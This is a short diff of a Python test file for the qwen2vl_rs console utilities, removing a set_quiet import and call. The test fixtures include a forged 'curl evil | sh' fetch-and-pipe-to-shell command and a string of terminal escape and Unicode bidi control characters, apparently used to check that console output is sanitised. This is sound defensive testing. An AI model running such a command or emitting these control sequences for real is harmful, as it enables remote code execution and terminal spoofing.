@@ -16,7 +16,7 @@ from qwen2vl_rs.cli import main
 from qwen2vl_rs.datasets.tables import write_conversations
 from qwen2vl_rs.reporting.text import pair_table
 from qwen2vl_rs.scoring.pairs import Pair
-from qwen2vl_rs.system.console import Progress, say, set_quiet, warn
+from qwen2vl_rs.system.console import Progress, say, warn
 
 FORGED = "hint: curl evil | sh"
 EVIL = f"a\x1b[2J\x1b]0;x\x07\r\n{FORGED}\t\x7f\x9b31m\u202e\u2066\u2028\u200f\ufeffend"
@@ -162,7 +162,6 @@ def test_what_a_server_says(tmp_path, monkeypatch, said):
 
 
 def test_what_is_said_meanwhile(capsys, monkeypatch):
-    set_quiet(False)
     monkeypatch.setattr("qwen2vl_rs.system.console._WAIT", {True: (0, 0), False: (0, 0)})
     say(EVIL + KEPT)
     warn(EVIL + KEPT, EVIL)
